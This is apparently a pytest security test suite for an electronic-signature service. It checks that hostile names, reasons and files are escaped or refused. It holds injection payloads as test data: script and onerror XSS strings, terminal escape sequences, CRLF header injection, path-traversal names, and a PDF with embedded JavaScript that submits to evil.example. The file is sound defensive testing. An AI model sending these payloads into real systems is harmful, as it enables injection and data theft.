"""Nothing that somebody hands in acts on a page, a header, a file, the log or a terminal."""

import base64
import json
import os
import re
import subprocess
import time
import unicodedata
import urllib.parse
import zipfile
from datetime import date, timedelta

import pytest
from playwright.sync_api import expect

from hostile import MARK, NAMES, REFUSED, Shape, pdf, signed, written
from server import BINARY, DOCUMENTS, ROOT, Server
from signing import Signing
from visitor import Visitor

CONTRACT = base64.b64encode((DOCUMENTS / "conditions-particulieres.pdf").read_bytes()).decode()
DISPOSITION = re.compile(r"(inline|attachment); filename=\"document\.pdf\"; filename\*=UTF-8''([A-Za-z0-9_%-]+)\.pdf")


def create(server, name, data=CONTRACT, **changes):
    """A contract of two signatories with this name everywhere."""
    def person(mobile):
        return {"firstName": name[:100], "lastName": name[:100], "email": "x@example.com", "mobile": mobile}

    return server.create(**{
        "reference": name[:100], "label": name, "metadata": {name: name},
        "documents": [{"name": name, "kind": kind, "data": data} for kind in ("main", "annex")],
        "signatories": [person("06 12 34 56 78"), person("06 98 76 54 32")],
    } | changes)


def refusal(server, **changes):
    """The answer to a contract that is not taken."""
    body = {
        "reference": "R", "label": "L", "language": "fr",
        "deadline": (date.today() + timedelta(days=20)).isoformat(),
        "documents": [{"name": "N", "kind": "main", "data": CONTRACT}],
        "signatories": [{"firstName": "C", "lastName": "D", "email": "c@example.com", "mobile": "06 12 34 56 78"}],
    } | changes
    status, _, answer = server.send(
        "POST", f"{server.web}/api/v1/contracts", json.dumps(body).encode(),
        {"Authorization": f"Bearer {server.key}"})
    return status, json.loads(answer), answer


def link(contract):
    return contract["signatories"][0]["signingUrl"]


def get(server, url, **headers):
    return server.send("GET", url, headers=headers)


def paraphe(server, *arguments):
    environment = {"PATH": os.environ["PATH"], "PARAPHE_DATA": str(server.data)}
    return subprocess.run(
        [BINARY, *arguments, "--brand", "orvea"], env=environment, cwd=ROOT, capture_output=True, check=True
    ).stdout.decode()


def acting(text):
    """The characters of a text that act on a terminal, or on the order in which a text is read."""
    return {character for character in text if character != "\n" and unicodedata.category(character) in ("Cc", "Cf")}


# Names

def test_names_are_text_on_every_page(server):
    """A page is made of the same elements, whatever the names on it are."""
    def pages(name):
        visitor = Visitor(server, link(create(server, name)))
        url = server.web + visitor.path
        yield get(server, url)[2].decode()
        yield get(server, f"{url}?text=1")[2].decode()
        yield get(server, f"{url}/decline")[2].decode()
        visitor.start()
        yield get(server, f"{url}/code?wait=1")[2].decode()
        visitor.type("0000")
        get(server, f"{url}/code?wait=1")
        yield get(server, f"{url}/done")[2].decode()

    plain = [Shape(page).elements for page in pages("Contrat simple")]
    for name in NAMES:
        for number, page in enumerate(pages(name)):
            shape = Shape(page)
            assert shape.elements == plain[number], (number, name)
            assert any(" ".join(name[:100].split()) in text for text in shape.texts), (number, name)
            assert not [url for url in shape.links if MARK in (url or "")], (number, name)


def test_a_browser_runs_nothing_of_a_name_and_sees_no_violation(alone, server):
    name = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
    contract = create(server, name)
    signing = alone(link(contract))
    said, asked = [], []
    signing.page.on("console", lambda message: said.append(message.text))
    signing.page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
    signing.page.reload()
    expect(signing.heading(name)).to_be_visible()
    expect(signing.canvas).to_be_visible()
    assert name in signing.page.title()
    with signing.page.expect_download() as download:
        signing.view.locator("a[download]").first.click()
    assert re.fullmatch(r"[^/\\:\"<>|?*]+\.pdf", download.value.suggested_filename)
    assert signing.view.locator("script:not([src])").count() == 0
    assert asked == []
    assert [text for text in said if "Content Security Policy" in text] == []


def test_a_name_is_one_encoded_word_of_a_header(server):
    authorized = {"Authorization": f"Bearer {server.key}"}
    for name in NAMES:
        contract = create(server, name)
        api = f"{server.web}/api/v1/contracts/{contract['id']}"
        for url, headers in [
            (f"{link(contract)}/documents/1", {}), (f"{link(contract)}/documents/2?download=1", {}),
            (f"{api}/documents/1", authorized),
        ]:
            status, answer, _ = server.send("GET", url, headers=headers)
            assert status == 200
            assert (answer["Content-Type"], answer["X-Content-Type-Options"]) == ("application/pdf", "nosniff")
            assert "Set-Cookie" not in answer
            disposition = DISPOSITION.fullmatch(answer["Content-Disposition"])
            assert urllib.parse.unquote(disposition[2]) == name
            assert [header for header, value in answer.items() if MARK in value] == ["Content-Disposition"]


def test_the_api_gives_names_and_metadata_back_as_they_came(server):
    """Control characters too, in metadata, which is the company's own and on no page."""
    for name in [*NAMES, *(f"{MARK}{text}" for text in REFUSED)]:
        kept = {name: name, "__proto__": name}
        contract = server.create(reference="R", metadata=kept)
        assert server.contract(contract["id"])["metadata"] == kept
        assert MARK not in get(server, link(contract))[2].decode()
    events = server.call("GET", "/events?limit=200")["events"]
    assert [event["data"]["metadata"] for event in events if event["type"] == "contract.created"][-1] == kept


def test_texts_that_steer_are_refused_and_not_repeated(server):
    person = {"firstName": "C", "lastName": "D", "email": "c@example.com", "mobile": "06 12 34 56 78"}
    document = {"name": "N", "kind": "main", "data": CONTRACT}
    for steering in REFUSED:
        text = f"a{steering}{MARK}"
        for field, changes in [
            ("reference", {"reference": text}), ("label", {"label": text}),
            ("documents[0].name", {"documents": [document | {"name": text}]}),
            ("signatories[0].firstName", {"signatories": [person | {"firstName": text}]}),
            ("signatories[0].lastName", {"signatories": [person | {"lastName": text}]}),
        ]:
            status, answer, body = refusal(server, **changes)
            assert (status, answer["code"], answer["field"]) == (422, "field_invalid", field), text
            assert MARK.encode() not in body
    assert server.call("GET", "/contracts")["contracts"] == []


def test_texts_of_ten_thousand_characters_are_refused(server):
    long = "x" * 10_000
    person = {"firstName": "C", "lastName": "D", "email": "c@example.com", "mobile": "06 12 34 56 78"}
    for code, changes in [
        ("field_too_long", {"reference": long}), ("field_too_long", {"label": long}),
        ("field_too_long", {"label": "e" + "\u0301" * 10_000}),
        ("field_too_long", {"documents": [{"name": long, "kind": "main", "data": CONTRACT}]}),
        ("field_too_long", {"signatories": [person | {"lastName": long}]}),
        ("field_too_long", {"signatories": [person | {"email": f"{long}@example.com"}]}),
        ("mobile_invalid", {"signatories": [person | {"mobile": "0" * 10_000}]}),
        ("metadata_too_large", {"metadata": {"k": long}}), ("metadata_too_large", {"metadata": {long: "v"}}),
        ("return_url_invalid", {"returnUrl": f"https://example.com/{long}"}),
        ("origin_invalid", {"frameOrigins": [f"https://{long}.example"]}),
        ("language_unknown", {"language": long}), ("order_invalid", {"order": long}),
    ]:
        status, answer, body = refusal(server, **changes)
        assert (status, answer["code"]) == (422, code), list(changes)
        assert len(body) < 2_000


def test_an_address_for_the_way_back_is_a_link_of_the_web_and_nothing_else(server):
    for address in [
        "javascript:alert(1)", "data:text/html,x", "//evil.example", "/x", "https://user:secret@example.com/",
        "https:/\\evil.example", "https://", "mailto:x@example.com", "\x01https://example.com/",
    ]:
        assert refusal(server, returnUrl=address)[1]["code"] == "return_url_invalid", address
    # Written into a quoted attribute.
    contract = server.create(returnUrl="https://example.com/\"onclick=alert(1)/'<script>\r\nX: y")
    shape = Shape(get(server, f"{link(contract)}/done")[2].decode() + get(server, link(contract))[2].decode())
    assert not [names for _, names in shape.elements if "onclick" in names]


def test_an_origin_that_may_frame_is_one_origin_and_nothing_else(server):
    for origin in [
        "*", "https://*.example", "null", "'self'", "data:", "https://a.example/",
        "https://a.example https://b.example",
        "https://a.example;script-src *", "https://a.example,https://b.example", "https://a.example\r\nX: y",
        "https://a.example 'unsafe-inline'", "javascript://a.example", "https://é.example", "https://a@b.example",
    ]:
        status, answer, _ = refusal(server, frameOrigins=[origin])
        assert (status, answer["code"]) == (422, "origin_invalid"), origin


# The log and the terminal

def test_the_log_holds_no_name_and_no_line_of_anybody_else(server):
    for name in NAMES:
        contract = create(server, name)
        visitor = Visitor(server, link(contract))
        visitor.start()
        visitor.type("0000")
        get(server, f"{server.web}/{urllib.parse.quote(name)}")
        get(server, f"{server.web}/brands/{urllib.parse.quote(name, safe='')}/logo")
        get(server, link(contract), **{"User-Agent": urllib.parse.quote(name), "Referer": f"https://{MARK}.example"})
    log = server.log.read_text()
    assert MARK not in log
    assert acting(log) == set()
    assert [line for line in log.splitlines() if not re.match(r"20\d\d-\d\d-\d\dT[\d:]{8}[+Z]", line)] == []


def test_commands_print_names_without_what_steers_a_terminal(server):
    """Also what a signatory typed, where no company looked."""
    plain = create(server, "Contrat simple")
    rows = len(paraphe(server, "contract", "show", plain["id"]).splitlines())
    for name in NAMES:
        shown = paraphe(server, "contract", "show", create(server, name)["id"])
        assert acting(shown) == set()
        assert len(shown.splitlines()) == rows, name
    contract = server.create()
    typed = f"{MARK}\x1b]0;owned\x07\x1b[2J\r\nadmin: signed\u202e\u2066\x9b"
    decline(server, contract, typed)
    shown = paraphe(server, "contract", "show", contract["id"])
    assert MARK in shown
    assert acting(shown) == set()
    assert not [line for line in shown.splitlines() if line.startswith("admin")]
    assert acting(paraphe(server, "contract", "list")) == set()


def test_a_signers_name_is_printed_without_what_steers_a_terminal(tmp_path):
    """Whoever sends a PDF to be verified chose the name in its certificate."""
    name = f"\x1b[2J{MARK}\x1b]0;owned\x07\u202e"
    file = tmp_path / "signed.pdf"
    file.write_bytes(signed(tmp_path, name))
    for language in ("en", "fr"):
        done = subprocess.run([BINARY, "verify", "--language", language, file], capture_output=True, text=True)
        assert done.returncode == 1
        assert MARK in done.stdout
        assert acting(done.stdout) == set()


def decline(server, contract, reason):
    url = link(contract)
    token = re.search(rb'name="page" value="([^"]+)"', get(server, f"{url}/decline")[2])[1].decode()
    body = urllib.parse.urlencode({"page": token, "reason": reason}).encode()
    status, _, _ = server.send("POST", f"{url}/decline", body, {
        "Origin": server.web, "Content-Type": "application/x-www-form-urlencoded"})
    assert status == 200
    [signatory] = server.contract(contract["id"])["signatories"]
    assert signatory["status"] == "declined"
    return signatory["declineReason"]


def test_a_reason_loses_what_steers_a_text_and_nothing_else(server):
    assert acting(decline(server, server.create(), "Trop\x1b[2J cher\u202e.")) == set()
    assert "cher" in decline(server, server.create(), "Trop\0 cher.")


def test_a_browsers_name_in_the_trail_is_short_whatever_it_is_made_of(server):
    contract = server.create()
    get(server, link(contract), **{"User-Agent": ("a" + "\u0301" * 20_000).encode().decode("latin-1")})
    key = (server.data / "operator.key").read_text().strip()
    _, _, answer = server.send("GET", f"{server.web}/api/v1/contracts/{contract['id']}/history", headers={
        "Authorization": f"Bearer {key}", "Paraphe-Brand": "orvea"})
    browsers = [entry.get("browser") or "" for entry in json.loads(answer)["entries"]]
    assert max(len(browser.encode()) for browser in browsers) <= 1_200


# Evidence and archive

def test_evidence_of_hostile_names_is_plain_files_and_plain_pages(server, tmp_path):
    contract = create(server, NAMES[0], signatories=[{
        "firstName": NAMES[0], "lastName": NAMES[1], "email": "x@example.com", "mobile": "06 12 34 56 78"}])
    typed = f"</p><script>alert('{MARK}')</script>"
    decline(server, contract, typed)
    _, _, container = server.send(
        "GET", f"{server.web}/api/v1/contracts/{contract['id']}/evidence",
        headers={"Authorization": f"Bearer {server.key}"})
    file = tmp_path / "evidence.asice"
    file.write_bytes(container)
    with zipfile.ZipFile(file) as evidence:
        assert [name for name in evidence.namelist() if not re.fullmatch(r"[A-Za-z0-9./_-]+", name)] == []
        assert [name for name in evidence.namelist() if ".." in name or name.startswith("/")] == []
        pages = [evidence.read(name).decode() for name in evidence.namelist() if name.endswith(".html")]
        trail = evidence.read("audit-trail.jsonl").decode()
    assert len(pages) == 4
    for page in pages:
        assert {"script", "img", "svg"} & {tag for tag, _ in Shape(page).elements} == set()
    assert sum(any(NAMES[0] in text for text in Shape(page).texts) for page in pages) >= 2
    # The trail has every word of it.
    assert any(json.dumps(typed, ensure_ascii=False)[1:-1] in line or "script" in line for line in trail.splitlines())
    done = subprocess.run(
        [BINARY, "verify", file, "--trust", server.data / "trust.pem", "--seal", server.data / "seals.pem"])
    assert done.returncode == 0


@pytest.mark.parametrize("name", [
    "../../../escaped", "a/b\\c:d*e?f\"g<h>i|j", "con.pdf.", "..",
    "𠀀" * 90,
], ids=["path", "signs", "device", "dots", "long"])
def test_an_archive_keeps_every_name_within_itself(tmp_path, name):
    archive = tmp_path / "archive"
    server = Server(tmp_path, {"PARAPHE_ARCHIVE": str(archive)})
    try:
        contract = server.create(
            reference=name, label=name, documents=[{"name": name, "kind": "main", "data": CONTRACT}])
        visitor = Visitor(server, link(contract))
        visitor.start()
        visitor.type("0000")
        give_up = time.monotonic() + 60
        while server.contract(contract["id"])["signedCopy"] != "archived":
            assert time.monotonic() < give_up and "could not be archived" not in server.log.read_text()
            time.sleep(0.3)
    finally:
        server.stop()
    [index] = [json.loads(line) for line in (archive / "index.jsonl").read_text().splitlines()]
    folder = archive / index["path"]
    assert re.fullmatch(r"20\d\d/[01]\d/[^/]+", index["path"])
    for file in index["files"]:
        assert (folder / file["name"]).resolve().parent == folder.resolve()
        assert (folder / file["name"]).stat().st_size == file["size"]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["archive", "data", "server.log"]
    assert subprocess.run([BINARY, "archive", "check", archive], capture_output=True).returncode == 0


# Files

def test_what_is_no_pdf_is_refused(server):
    for code, data in [
        ("document_empty", b""),
        ("document_not_pdf", b"<!doctype html><script>alert(1)</script>"),
        ("document_not_pdf", b"MZ\x90\0" + b"\0" * 2000 + b"%PDF-1.7"),
        ("document_unreadable", b"%PDF-1.7\n<script>alert(1)</script>"),
    ]:
        encoded = base64.b64encode(data).decode()
        status, answer, _ = refusal(server, documents=[{"name": "N", "kind": "main", "data": encoded}])
        assert (status, answer["code"], answer["field"]) == (422, code, "documents[0].data"), data[:20]


def test_a_file_that_is_also_a_web_page_stays_a_pdf(alone, server):
    page = b"<html><body><script>document.title='ran'</script><h1>Perdu</h1>"
    first = pdf(written("Bonjour")).replace(b"%PDF-1.7\n", b"%PDF-1.7\n%" + page + b"\n", 1)
    # The table no longer fits: it is written anew, and the page is gone.
    repaired = create(server, "Contrat", base64.b64encode(first).decode())
    assert repaired["documents"][0]["prepared"] == ["repaired"]
    assert page not in get(server, link(repaired) + "/documents/1")[2]
    both = pdf(written("Bonjour"), catalog=b"/Page(" + page + b")")
    contract = create(server, "Contrat", base64.b64encode(both).decode())
    for path in ("/documents/1", "/documents/1?download=1"):
        _, headers, body = get(server, link(contract) + path)
        assert body == both
        assert (headers["Content-Type"], headers["X-Content-Type-Options"]) == ("application/pdf", "nosniff")
    tab = alone(link(contract)).page
    # No way to have it run as a script of the page's own origin.
    outcome = tab.evaluate("""(url) => new Promise((done) => {
      const script = document.createElement("script");
      Object.assign(script, { src: url, onload: () => done("ran"), onerror: () => done("refused") });
      document.head.append(script);
    })""", f"{urllib.parse.urlsplit(link(contract)).path}/documents/1")
    assert outcome == "refused"


def test_what_a_pdf_would_run_is_not_run(alone, server):
    """JavaScript at its opening, a link of its own, an embedded file."""
    active = pdf(
        written("Bonjour"), catalog=b"/OpenAction 6 0 R/AA<</WC 6 0 R>>/Names<</JavaScript<</Names[(a) 6 0 R]>>>>",
        objects=[b"<</S/JavaScript/JS(app.alert\\('ran'\\);this.submitForm\\('https://evil.example/'\\))>>"])
    status, answer, _ = refusal(
        server, documents=[{"name": "N", "kind": "main", "data": base64.b64encode(active).decode()}])
    if status == 422:
        return  # refused is as good
    signing = alone()
    requests, dialogs = [], []
    signing.page.on("request", lambda request: requests.append(request.url))
    signing.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    signing.page.goto(answer["signatories"][0]["signingUrl"])
    expect(signing.canvas).to_be_visible()
    assert dialogs == []
    assert {urllib.parse.urlsplit(url).netloc for url in requests if url.startswith("http")} \
        == {urllib.parse.urlsplit(server.web).netloc}


def test_the_text_of_a_document_is_text(alone, server, new_context):
    """Both versions of it: that of the server, without scripts, and that of the viewer."""
    line = "<img src=x onerror=alert(1)> &lt;b&gt; {{{reference}}} [[download]]"
    contract = create(server, "Contrat", base64.b64encode(pdf(written(line))).decode())
    page = get(server, f"{link(contract)}?text=1")[2].decode()
    assert any(line in text for text in Shape(page).texts)
    assert not [tag for tag, names in Shape(page).elements if "onerror" in names]

    signing = alone(link(contract))
    expect(signing.canvas).to_be_visible()
    signing.button("Texte").click()
    expect(signing.view.locator(".sheet-text").get_by_text(line)).to_be_visible()
    assert signing.view.locator("[onerror]").count() == 0


def test_a_page_that_cannot_be_drawn_spoils_nothing_else(server):
    """Ten metres high and a thumb wide: drawn at the usual width it would take gigabytes."""
    contract = create(server, "Contrat", base64.b64encode(pdf(written("Bonjour"), media="0 0 10 100000")).decode())
    url = link(contract)
    status, headers, _ = get(server, f"{url}/documents/1/pages/1")
    assert (status, headers["Content-Type"]) == (503, "text/html; charset=utf-8")
    for number in ("0", "2", "-1", "1e3", "99999999999999999999", "%00", "1%2f..%2f2"):
        assert get(server, f"{url}/documents/1/pages/{number}")[0] in (400, 404), number
    assert get(server, url)[0] == 200
    assert get(server, f"{url}/documents/1")[0] == 200
